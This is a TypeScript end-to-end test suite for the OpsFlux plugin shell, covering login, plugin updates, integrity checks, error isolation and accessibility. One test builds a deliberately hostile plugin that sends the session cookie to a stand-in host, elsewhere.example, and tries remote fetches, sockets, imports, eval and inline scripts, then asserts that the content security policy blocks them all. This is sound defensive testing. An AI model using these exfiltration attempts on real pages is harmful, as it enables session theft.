import { rm } from 'node:fs/promises'
import type { ActivePlugin, MenuItem } from '@opsflux/sdk'
import type { Browser, Page, Request } from 'playwright-core'
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest'
import { launchBrowser } from '../setup/browser.ts'
import { buildShell } from './build-shell.ts'
import { session, stubHost, type StubHost } from './stub-host.ts'

let dist: string
let browser: Browser
let host: StubHost
let page: Page
let complaints: string[]

beforeAll(async () => {
  [dist, browser] = await Promise.all([buildShell(), launchBrowser()])
  host = await stubHost(dist)
})
afterAll(async () => {
  await browser.close()
  await host.close()
  await rm(dist, { recursive: true })
})
beforeEach(async () => {
  host.state.session = session()
  host.state.signedOut = session()
  page = await (await browser.newContext({ viewport: { width: 1366, height: 820 }, locale: 'en-GB' })).newPage()
  complaints = []
  page.on('pageerror', (error) => complaints.push(error.message))
  page.on('console', (message) => { if (/content security policy/i.test(message.text())) complaints.push(message.text()) })
  page.on('request', (request) => { if (!request.url().startsWith(host.url) && !request.url().startsWith('data:')) complaints.push(request.url()) })
})
afterEach(async () => {
  await page.context().close()
  expect(complaints).toEqual([])
})

const menu: MenuItem = { id: 'list', pluginId: 'hse-reports', label: 'Incidents', icon: 'shield-alert', to: '/x/hse-reports/incidents' }
const client = (body: string, setup = ''): string => `
import { h, ref } from 'vue'
import { defineClient, useModule } from '@opsflux/sdk/client'
import { UiPageHeader, UiButton } from '@opsflux/ui'
const Page = { setup() { const module = useModule(); return () => h('div', [h(UiPageHeader, { title: module.t('page.list') }), ${body}]) } }
export default defineClient({ setup(context) { ${setup}; context.addPage({ path: '/incidents', name: 'list', component: Page, title: 'page.list' }) } })`
const open = (plugins: ActivePlugin[], menus = plugins.length > 0 ? [menu] : []): void => void (host.state.session = { ...session(), plugins, menus })

test('a wrong password is said, the right one leads to the page that was asked for', async () => {
  host.state.session = undefined
  await page.goto(`${host.url}/modules`)
  await page.getByLabel('E-mail').fill('admin@example.org')
  await page.getByRole('textbox', { name: 'Password' }).fill('wrong')
  await page.keyboard.press('Enter')
  expect(await page.getByRole('alert').textContent()).toContain('E-mail or password is wrong')
  await page.getByRole('textbox', { name: 'Password' }).fill('right')
  await page.keyboard.press('Enter')
  await page.waitForURL(`${host.url}/modules`)
  expect(await page.title()).toBe('Modules · OpsFlux')
})

test('somebody with a one-time password reaches nothing before choosing another', async () => {
  const given = session()
  given.user.mustChangePassword = true
  host.state.session = given
  await page.goto(host.url)
  await page.waitForURL(/\/password/)
  await page.getByRole('textbox', { name: 'Current password' }).fill('right')
  await page.getByRole('textbox', { name: 'New password', exact: true }).fill('short')
  await page.getByRole('button', { name: 'Save password' }).click()
  await page.getByText('Use at least 12 characters.').waitFor()
  await page.getByRole('textbox', { name: 'New password', exact: true }).fill('a sentence to remember')
  await page.getByRole('textbox', { name: 'New password again' }).fill('a sentence to remember')
  await page.getByRole('button', { name: 'Save password' }).click()
  await page.getByText('Welcome, Ada').waitFor()
})

test('a deep link into a plugin waits for the plugin, which shares the shell’s Vue and kit', async () => {
  open([host.plugin('hse-reports', '1.0.0', client(`h('p', module.t('hello', { name: module.version }))`))])
  await page.goto(`${host.url}/x/hse-reports/incidents`)
  await page.getByText('Hello 1.0.0').waitFor()
  expect(await page.getByRole('heading', { level: 1 }).textContent()).toBe('Incidents')
  expect(await page.title()).toBe('Incidents · OpsFlux')
  expect(await page.getByRole('link', { name: 'Incidents' }).getAttribute('aria-current')).toBe('page')
})

test('an update swaps the open page without a reload, and removal leaves nothing of the plugin', async () => {
  open([host.plugin('hse-reports', '1.0.0', client(`h('p', 'first release')`, `context.onDispose(() => { window.disposed = true })`))])
  await page.goto(`${host.url}/x/hse-reports/incidents`)
  await page.getByText('first release').waitFor()
  await page.evaluate('window.kept = true')

  open([host.plugin('hse-reports', '1.1.0', client(`h('p', 'second release')`))])
  host.changed()
  await page.getByText('second release').waitFor()
  expect(await page.evaluate('[window.kept, window.disposed]')).toEqual([true, true])

  open([])
  host.changed()
  await page.getByText('This module is not loaded').waitFor()
  expect(await page.getByRole('link', { name: 'Incidents' }).count()).toBe(0)
  expect(await page.evaluate('window.kept')).toBe(true)
})

test('a path that the new release lacks says so', async () => {
  open([host.plugin('hse-reports', '1.0.0', client(`h('p', 'first release')`))])
  await page.goto(`${host.url}/x/hse-reports/incidents`)
  await page.getByText('first release').waitFor()
  open([host.plugin('hse-reports', '1.1.0', client(`h('p', 'x')`).replace('/incidents', '/others'))])
  host.changed()
  await page.getByText('HSE reports has no such page').waitFor()
})

test('a plugin whose file was altered is not run', async () => {
  open([host.plugin('hse-reports', '1.0.0', client(`h('p', 'altered')`, 'window.ran = true'), true)])
  await page.goto(`${host.url}/x/hse-reports/incidents`)
  await page.getByText('HSE reports could not be loaded').waitFor()
  expect(await page.evaluate('window.ran')).toBeUndefined()
})

test('an altered release that arrives while the page is open is not run either', async () => {
  open([host.plugin('hse-reports', '1.0.0', client(`h('p', 'first release')`))])
  await page.goto(`${host.url}/x/hse-reports/incidents`)
  await page.getByText('first release').waitFor()
  open([host.plugin('hse-reports', '1.1.0', client(`h('p', 'altered')`, 'window.ran = true'), true)])
  host.changed()
  await page.getByText('HSE reports could not be loaded').waitFor()
  expect(await page.evaluate('window.ran')).toBeUndefined()
})

test('a plugin’s page reaches no other host, evaluates no text and makes no script of its own', async () => {
  const attempts = `
    const tell = (name, work) => Promise.resolve().then(work).then(() => (window.reached[name] = true), () => undefined)
    window.reached = {}
    const pixel = () => new Promise((resolve, reject) => { const image = new Image(); image.onload = image.onerror = reject; image.src = 'https://elsewhere.example/pixel?' + document.cookie; setTimeout(reject, 500) })
    const inline = () => { const script = document.createElement('script'); script.textContent = 'window.reached.inline = true'; document.head.append(script); throw 0 }
    const frame = () => { const inside = document.createElement('iframe'); inside.srcdoc = '<script>parent.reached.frame = true</' + 'script>'; document.body.append(inside); throw 0 }
    const handler = () => { const link = document.createElement('a'); link.setAttribute('onclick', 'window.reached.handler = true'); document.body.append(link); link.click(); link.remove(); throw 0 }
    const all = [['eval', () => eval('1')], ['function', () => new Function('return 1')()], ['fetch', () => fetch('https://elsewhere.example/')], ['beacon', () => { if (!navigator.sendBeacon('https://elsewhere.example/', 'x')) throw 0; throw 0 }],
      ['import', () => import('https://elsewhere.example/x.js')], ['data', () => import('data:text/javascript,window.reached.data = true')], ['blob', () => import(URL.createObjectURL(new Blob(['window.reached.blob = true'], { type: 'text/javascript' })))],
      ['socket', () => new Promise((resolve, reject) => { const socket = new WebSocket('wss://elsewhere.example/'); socket.onopen = resolve; socket.onerror = reject })], ['pixel', pixel], ['inline', inline], ['frame', frame], ['handler', handler],
      ['worker', () => new Promise((resolve, reject) => { const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); worker.onmessage = resolve; worker.onerror = reject })],
      ['cookie', () => { if (!document.cookie.includes('opsflux_session')) throw 0 }]]
    Promise.all(all.map(([name, work]) => tell(name, work))).then(() => { const done = document.createElement('p'); done.dataset.tried = all.length; document.body.append(done) })`
  open([host.plugin('hse-reports', '1.0.0', client(`h('p', 'hostile')`, attempts))])
  const foreign: Request[] = []
  page.on('request', (request) => { if (request.url().includes('elsewhere.example')) foreign.push(request) })
  await page.goto(`${host.url}/x/hse-reports/incidents`)
  await page.locator('[data-tried="14"]').waitFor({ state: 'attached' })
  expect(await page.evaluate('window.reached')).toEqual({})
  expect(complaints.filter((complaint) => /content security policy/i.test(complaint)).length).toBeGreaterThan(8)
  // What was asked for was ended by the policy, not by the network.
  expect(foreign.map((request) => request.failure()?.errorText)).toEqual(foreign.map(() => 'csp'))
  complaints = []
})

test('an error in a plugin’s page stays in it; one in a handler leaves the page standing', async () => {
  const button = `h(UiButton, { onClick() { throw new Error('handler') } }, () => 'Press'), h(UiButton, { onClick() { window.breaks.value = true } }, () => 'Break'), window.breaks.value && (() => { throw new Error('render') })()`
  open([host.plugin('hse-reports', '1.0.0', client(button, 'window.breaks = ref(false)'))])
  await page.goto(`${host.url}/x/hse-reports/incidents`)
  await page.getByRole('button', { name: 'Press' }).click()
  await page.getByText('Something went wrong on the server').waitFor()
  await page.getByRole('button', { name: 'Break' }).click()
  await page.getByText('This page has failed').waitFor()
  await page.evaluate('window.breaks.value = false')
  await page.getByRole('button', { name: 'Try again' }).click()
  await page.getByRole('button', { name: 'Press' }).waitFor()
})

test('a plugin whose setup throws half-way leaves no page behind', async () => {
  open([host.plugin('hse-reports', '1.0.0', client(`h('p', 'x')`).replace(`title: 'page.list' }) } })`, `title: 'page.list' }); throw new Error('half') } })`))])
  await page.goto(`${host.url}/x/hse-reports/incidents`)
  await page.getByText('HSE reports could not be loaded').waitFor()
})

test('the palette finds pages by keyboard, and the language changes at once', async () => {
  open([host.plugin('hse-reports', '1.0.0', client(`h('p', 'first release')`))])
  await page.goto(host.url)
  await page.getByText('Welcome, Ada').waitFor()
  await page.keyboard.press('Control+k')
  await page.keyboard.type('incid')
  await page.keyboard.press('Enter')
  await page.getByText('first release').waitFor()
  await page.getByRole('button', { name: 'Your account' }).click()
  await page.getByRole('menuitem', { name: 'Français' }).click()
  await page.getByRole('link', { name: 'Accueil' }).waitFor()
  expect(await page.evaluate('document.documentElement.lang')).toBe('fr')
})

test('who may not manage modules is told so, and sees no entry for it', async () => {
  host.state.session = { ...session(), permissions: ['hse-reports.view.all'] }
  await page.goto(`${host.url}/modules`)
  await page.getByText('You may not open this page').waitFor()
  expect(await page.getByRole('link', { name: 'Modules' }).count()).toBe(0)
})

test('changes missed while the live connection was gone are caught up with', async () => {
  open([host.plugin('hse-reports', '1.0.0', client(`h('p', 'first release')`))])
  await page.goto(`${host.url}/x/hse-reports/incidents`)
  await page.getByText('first release').waitFor()
  open([host.plugin('hse-reports', '1.1.0', client(`h('p', 'second release')`))])
  host.drop()
  await page.getByText('second release').waitFor()
})

test('a lost network is said, and said no more when it is back', async () => {
  await page.goto(host.url)
  await page.getByText('Welcome, Ada').waitFor()
  await page.context().setOffline(true)
  await page.getByText('No connection to the server').waitFor()
  await page.context().setOffline(false)
  await page.getByText('No connection to the server').waitFor({ state: 'detached' })
})

test('the keyboard can skip the frame', async () => {
  await page.goto(host.url)
  await page.getByText('Welcome, Ada').waitFor()
  await page.keyboard.press('Tab')
  expect(await page.evaluate('document.activeElement.textContent')).toBe('Skip to the content')
  await page.keyboard.press('Enter')
  expect(await page.evaluate('document.activeElement.id')).toBe('main')
})

test('twenty updates in a row leave one release behind: no routes, stores or sheets of the others', async () => {
  const release = (version: number) => client(`h('p', { class: 'release' }, 'release ${version}')`, `
    const useList = defineStore('hse-reports:list-${version}', () => ({ rows: ref([]) })); useList()
    window.stores = () => Object.keys(getActivePinia().state.value).filter((id) => id.startsWith('hse-reports:'))`)
    .replace("import { defineClient", "import { defineStore, getActivePinia } from 'pinia'\nimport { defineClient")
  open([host.plugin('hse-reports', '1.0.0', release(0))])
  await page.goto(`${host.url}/x/hse-reports/incidents`)
  for (let version = 1; version <= 20; version += 1) {
    open([host.plugin('hse-reports', `1.${version}.0`, release(version))])
    host.changed()
    await page.getByText(`release ${version}`, { exact: true }).waitFor()
  }
  expect(await page.evaluate('window.stores()')).toEqual(['hse-reports:list-20'])
  expect(await page.locator('.release').count()).toBe(1)
})
